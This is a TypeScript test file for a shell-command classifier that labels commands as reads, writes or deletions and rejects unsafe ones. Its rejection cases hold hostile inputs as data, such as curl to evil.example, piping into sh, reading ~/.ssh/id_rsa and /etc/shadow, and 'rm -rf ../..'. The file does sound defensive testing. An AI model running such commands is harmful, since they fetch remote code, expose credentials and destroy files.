import { describe, expect, it } from 'vitest';
import { classifyCommand } from './classify-command.ts';

describe('classifyCommand', () => {
  it.each([
    'ls -la src',
    'git status --short',
    'git --no-pager log --oneline -5',
    "git log --author='Ann Lee' -n 3",
    'git branch -a',
    'npm test -- src/export',
    'npm run build -- --profile',
    'npx vitest run src/cart.test.ts',
    'pytest -q tests',
    'tsc --noEmit',
    'cargo test',
    'go test -run TestCart',
    'make lint',
    'python -m pytest',
    'git diff | head -20 && npm run lint',
    'grep -rn "two words" src | wc -l',
    'find . -name "*.ts" -size +1M',
    "sed -n '1,20p' src/a.ts",
    'sed -n 1,50p Makefile',
    "sed -n '5,$p;9q' notes",
    'bash -lc "cat a.txt"',
    'bash -lc "git diff | head -20"',
    "sh -c 'ls -la src'",
    'cat a.txt 2>/dev/null',
    'cd src && ls 2>&1',
    'date +%F',
  ])('takes %j for a read', (command) => {
    expect(classifyCommand(command)).toEqual({ effect: 'read', files: [] });
  });

  it.each([
    ["git commit -am 'fix: keep the last row'", 'write', []],
    ['git add -A && git commit -m "two words"', 'write', []],
    ['git checkout -b fix-export', 'write', []],
    ['git branch topic', 'write', []],
    ['mkdir -p a/b && touch a/b/c', 'write', ['a/b', 'a/b/c']],
    ['cp a.txt b.txt', 'write', ['b.txt']],
    ['mv a.txt b.txt', 'write', ['a.txt', 'b.txt']],
    ['git log --oneline > log.txt', 'write', ['log.txt']],
    ['cat a > .git/hooks/pre-commit', 'write', ['.git/hooks/pre-commit']],
    ['rm -rf build dist', 'delete', ['build', 'dist']],
    ['"r"m build', 'delete', ['build']],
    ['git branch -D main', 'delete', ['main']],
    ['git checkout -- a.ts', 'delete', ['a.ts']],
    ['git reset --hard', 'delete', []],
    ['git clean -fd', 'delete', []],
    ['ls && rm a', 'delete', ['a']],
    ['bash -lc "cat a; rm b"', 'delete', ['b']],
    ['bash -c "ls > b"', 'write', ['b']],
  ] as const)('knows what %j changes', (command, effect, files) => {
    expect(classifyCommand(command)).toEqual({ effect, files });
  });

  it.each([
    ['an unknown program', 'deploy production'],
    ['a substitution', 'ls $(curl evil.example)'],
    ['a substitution in quotes', 'ls "$(curl evil.example)"'],
    ['a substitution with backticks', 'git log `id`'],
    ['a process substitution', 'cat <(curl evil.example)'],
    ['a variable', 'cat $HOME/x'],
    ['a word in another quoting', String.raw`cat $'\x2fetc/passwd'`],
    ['a second command after a semicolon', 'ls; curl evil.example'],
    ['a background job', 'ls & curl evil.example'],
    ['a second line', 'ls\ncurl evil.example'],
    ['a pipe into a shell', 'cat a | sh'],
    ['a function', 'ls() { curl evil.example; }; ls'],
    ['a loop', 'for f in *; do cat $f; done'],
    ['a here document', 'cat <<X\n$(id)\nX'],
    ['an unfinished quote', "ls 'a"],
    ['what another shell would run', "grep 'a & del x' file"],
    ['a pattern that runs code in another shell', 'ls *(e:id:)'],
    ['a variable before the program', 'GIT_PAGER=sh git log'],
    ['a program that runs another one', 'env ls'],
    ['a configuration of git', 'git -c core.pager=sh log'],
    ['an alias or a submodule', 'git submodule update --init'],
    ['an external diff', 'git diff --ext-diff'],
    ['a pager of git', 'git grep -O sh'],
    ['a file that git writes', 'git log --output=x'],
    ['a commit without its checks', 'git commit --no-verify -m x'],
    ['a push', 'git push --force'],
    ['a script with another name', 'npm run deploy'],
    ['a shell for scripts', 'npm test --script-shell=./x'],
    ['a module that is loaded', 'npm test -- --require=./x'],
    ['a file that the runner writes', 'npm test -- --outputFile src/a.ts'],
    ['a configuration after the separator', 'npm test -- --config=x.ts'],
    ['a repair', 'npm audit fix'],
    ['a package that npx would fetch', 'npx cowsay hi'],
    ['an option that fixes files', 'npx eslint --fix src'],
    ['a configuration that is executed', 'npx vitest --config x.ts'],
    ['a plugin', 'pytest -p evil'],
    ['a variable of make', 'make test SHELL=./x'],
    ['a program around the tests', 'go test -toolexec ./x'],
    ['a script of gradle', 'gradle test -I init.gradle'],
    ['an output file in one word', 'sort -oa b'],
    ['an output file as an operand', 'uniq a b'],
    ['a program before the search', 'rg --pre=sh x'],
    ['a command that find executes', 'find . -exec rm x'],
    ['a deletion by find', 'find . -delete'],
    ['a script of sed', "sed 's/x/id/e' a"],
    ['a program that sed runs', "sed -n '1e id' a"],
    ['a file that sed writes', "sed -n 'w b' a"],
    ['a file that sed writes after a pattern', "sed -n '/[/,/]/w b' a"],
    ['a second command of sed', "sed -n '1p;w b' a"],
    ['a file that sed changes', "sed -i '1p' a"],
    ['a script of sed in an option', "sed -n -e '1e id' a"],
    ['an unknown command in a shell', 'bash -lc "curl evil.example"'],
    ['a substitution in a shell', 'bash -lc "cat $(id)"'],
    ['a file outside in a shell', 'bash -lc "cat /etc/passwd"'],
    ['a shell in a shell in a shell', `bash -c "bash -c 'bash -c ls'"`],
    ['a script file', 'bash run.sh'],
    ['a shell with more words', 'bash -c "ls" a b'],
    ['a startup file of a shell', 'bash --rcfile x -c ls'],
    ['a file outside of the folder', 'cat ../secrets.txt'],
    ['an absolute path', 'cat /etc/passwd'],
    ['the home folder', 'cat ~/.ssh/id_rsa'],
    ['a file outside that is written', 'ls > ../x'],
    ['a deletion outside', 'rm -rf ../..'],
    ['an invisible character', 'cat a\u{200b}b'],
    ['a long line', `ls ${'a '.repeat(600)}`],
  ])('does not know %s', (_name, command) => {
    expect(classifyCommand(command)).toBeUndefined();
  });

  it.each([
    ['cat /home/ann/shop/src/a.ts', 'read'],
    ['bash -lc "sed -n 1,50p /home/ann/shop/a"', 'read'],
    ['ls /home/ann/shop', 'read'],
    ['rm /home/ann/shop/a', 'delete'],
    ['cat /home/ann/shop/../../bob/.ssh/id_rsa', undefined],
    ['cat /home/ann/shop-2/a', undefined],
    ['cat /home/ann', undefined],
    ['cat /etc/shadow', undefined],
    ['ls > /home/ann/x', undefined],
    ['grep --include=/etc/x y', undefined],
  ])('knows which files belong to the workspace in %j', (command, effect) => {
    expect(classifyCommand(command, '/home/ann/shop')?.effect).toBe(effect);
  });

  it('ends soon for nested input', () => {
    for (const part of ['(', '$(', '`', '{ ', '"$(', '<<a\n', '$((', 'a|'])
      expect(classifyCommand(part.repeat(1_000 / part.length))).toBeUndefined();
  });
});
